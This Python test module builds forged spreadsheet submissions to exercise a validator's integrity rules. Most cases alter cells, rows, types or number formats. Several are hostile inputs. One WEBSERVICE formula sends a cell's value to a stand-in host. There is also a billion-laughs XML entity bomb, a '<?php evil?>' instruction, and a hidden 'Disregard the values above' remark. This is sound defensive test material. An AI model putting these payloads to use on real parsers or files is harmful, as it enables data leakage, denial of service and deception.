"""Submissions whose cells compute, stand in two places, or are not what they look like (rule 19).

Each is signed by the school's own key after the change, so that the package signature holds.
"""

from __future__ import annotations

import re

from tests.exchange.package_building import replace_once
from tests.faults.submission_case import (
    GOAL,
    Forger,
    cell_xml,
    number_cell,
    part_of,
    submission_case,
    text_cell,
    with_number_format,
)


@submission_case("cell.formula", rule=19)
def a_formula_with_the_signed_number_as_its_cached_value(forger: Forger) -> bytes:
    return forger.cell(GOAL, "E5", lambda cell: cell.replace("<v>", "<f>64+0*NOW()</f><v>"))


@submission_case("cell.formula", rule=19)
def a_formula_in_a_namespace_prefix(forger: Forger) -> bytes:
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    return forger.cell(GOAL, "E5", lambda cell: cell.replace("<v>", f'<x:f xmlns:x="{main}">64</x:f><v>'))


@submission_case("cell.formula", rule=19)
def an_array_formula_over_all_values(forger: Forger) -> bytes:
    array = '<f t="array" ref="E5:E84">64</f><v>'
    return forger.cell(GOAL, "E5", lambda cell: cell.replace("<v>", array))


@submission_case("cell.formula", rule=19)
def a_formula_that_asks_a_server(forger: Forger) -> bytes:
    call = '<f>WEBSERVICE("http://a/?"&amp;E6)</f><v>'
    return forger.cell(GOAL, "E5", lambda cell: cell.replace("<v>", call))


@submission_case("cell.twice", rule=19)
def a_value_given_twice_in_one_row(forger: Forger) -> bytes:
    return forger.cell(GOAL, "E5", lambda cell: cell + cell.replace("164", "64"))


@submission_case("sheet.row_order", rule=19)
def a_row_given_twice(forger: Forger) -> bytes:
    return forger.sheet(GOAL, "</sheetData>", '<row r="5"><c r="E5"><v>64</v></c></row></sheetData>')


@submission_case("sheet.section_twice", rule=19)
def a_second_set_of_cells(forger: Forger) -> bytes:
    again = '</sheetData><sheetData><row r="5"><c r="E5"><v>64</v></c></row></sheetData>'
    return forger.sheet(GOAL, "</sheetData>", again)


@submission_case("cell.address", rule=19)
def a_cell_with_the_address_of_another_row(forger: Forger) -> bytes:
    return forger.sheet(GOAL, '<c r="E5"', '<c r="E6"')


@submission_case("cell.address", rule=19)
def a_cell_without_an_address(forger: Forger) -> bytes:
    return forger.sheet(GOAL, '<c r="E5"', "<c")


@submission_case("cell.address", rule=19)
def a_cell_with_an_address_of_lower_case(forger: Forger) -> bytes:
    return forger.sheet(GOAL, '<c r="E5"', '<c r="e5"')


@submission_case("cell.text_instead_of_number", rule=19)
def a_number_stored_as_text(forger: Forger) -> bytes:
    return forger.cell(GOAL, "E5", text_cell("164"))


@submission_case("cell.text_instead_of_number", rule=19)
def a_truth_value_where_a_number_belongs(forger: Forger) -> bytes:
    return forger.cell(GOAL, "E5", lambda cell: cell.replace('t="n"><v>164', 't="b"><v>1'))


@submission_case("cell.number_instead_of_text", rule=19)
def a_measures_code_of_1_10_mangled_to_1_1(forger: Forger) -> bytes:
    found = re.search(r'<c r="(A[0-9]+)"[^>]*><is><t>1\.10</t>', forger.parts[part_of(GOAL)].decode())
    assert found
    return forger.cell(GOAL, found[1], number_cell("1.1"))


@submission_case("cell.number_instead_of_text", rule=19)
def a_schools_code_stored_as_a_number(forger: Forger) -> bytes:
    return forger.cell("Sign-off", "B6", number_cell("9001116"))


def _formatted(forger: Forger, address: str, number: str, code: str) -> bytes:
    """A cell of the first goal's sheet that holds the number and shows it by the format ``code``."""
    parts, style = with_number_format(forger.parts, code)
    old = cell_xml(parts, GOAL, address)
    text = parts[part_of(GOAL)].decode()
    parts[part_of(GOAL)] = replace_once(text, old, number_cell(number, style=style)(old)).encode()
    return forger.signed(parts)


@submission_case("cell.date_instead_of_number", rule=19)
def a_number_that_excel_turned_into_a_date(forger: Forger) -> bytes:
    return _formatted(forger, "E5", "164", "yyyy\\-mm\\-dd")


@submission_case("cell.date_instead_of_number", rule=19)
def a_date_in_iso_form_where_a_number_belongs(forger: Forger) -> bytes:
    return forger.cell(GOAL, "E5", lambda cell: cell.replace('t="n"><v>164', 't="d"><v>1900-06-12'))


@submission_case("cell.date_instead_of_text", rule=19)
def a_measures_code_that_excel_turned_into_a_date(forger: Forger) -> bytes:
    return _formatted(forger, "A5", "36892", "d\\-mmm")


@submission_case("cell.number_format", rule=19)
def a_number_shown_as_another_number(forger: Forger) -> bytes:
    return _formatted(forger, "E5", "164", "&quot;64&quot;")


@submission_case("cell.number_format", rule=19)
def a_number_that_its_format_hides(forger: Forger) -> bytes:
    return _formatted(forger, "E5", "164", ";;;")


@submission_case("cell.error", rule=19)
def an_error_where_a_number_belongs(forger: Forger) -> bytes:
    return forger.cell(GOAL, "E5", lambda cell: cell.replace('t="n"><v>164', 't="e"><v>#REF!'))


@submission_case("cell.kind", rule=19)
def a_cell_of_a_kind_that_there_is_not(forger: Forger) -> bytes:
    return forger.cell(GOAL, "E5", lambda cell: cell.replace('t="n"', 't="x"'))


@submission_case("cell.shared_text", rule=19)
def a_text_by_a_number_that_leads_nowhere(forger: Forger) -> bytes:
    return forger.cell(GOAL, "J5", lambda _: '<c r="J5" s="20" t="s"><v>7</v></c>')


@submission_case("sheet.unexpected_element", rule=19)
def two_contents_in_one_cell(forger: Forger) -> bytes:
    return forger.cell(GOAL, "E5", lambda cell: cell.replace("</v>", "</v><v>64</v>"))


@submission_case("cell.not_in_layout", rule=19)
def a_number_where_nothing_belongs(forger: Forger) -> bytes:
    return forger.cell(GOAL, "G6", number_cell("12"))


@submission_case("cell.not_in_layout", rule=19)
def a_remark_far_below_the_table(forger: Forger) -> bytes:
    far = '<row r="900"><c r="L900" t="inlineStr"><is><t>Disregard the values above</t></is></c></row></sheetData>'
    return forger.sheet(GOAL, "</sheetData>", far)


@submission_case("sheet.too_large", rule=19)
def a_cell_at_xfd1048576(forger: Forger) -> bytes:
    far = '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'
    return forger.sheet(GOAL, "</sheetData>", far)


@submission_case("sheet.markup", rule=19)
def a_comment_between_the_cells(forger: Forger) -> bytes:
    return forger.sheet(GOAL, "</sheetData>", "<!-- hidden --></sheetData>")


@submission_case("sheet.markup", rule=19)
def an_instruction_between_the_cells(forger: Forger) -> bytes:
    return forger.sheet(GOAL, "</sheetData>", "<?php evil?></sheetData>")


@submission_case("sheet.markup", rule=19)
def a_number_in_a_cdata_section(forger: Forger) -> bytes:
    return forger.cell(GOAL, "E5", lambda cell: cell.replace("164", "<![CDATA[164]]>"))


@submission_case("sheet.markup", rule=19)
def text_between_the_cells(forger: Forger) -> bytes:
    return forger.sheet(GOAL, "</sheetData>", "64</sheetData>")


@submission_case("sheet.damaged", rule=19)
def a_sheet_that_is_no_xml(forger: Forger) -> bytes:
    return forger.sheet(GOAL, "</sheetData>", "</sheetdata>")


@submission_case("package.doctype", rule=4)
def a_billion_laughs_in_a_submission(forger: Forger) -> bytes:
    entities = "".join(f'<!ENTITY l{n + 1} "{f"&l{n};" * 10}">' for n in range(9))
    bomb = f'<!DOCTYPE worksheet [<!ENTITY l0 "lol">{entities}]><worksheet '
    return forger.put_in(part_of(GOAL), "<worksheet ", bomb)
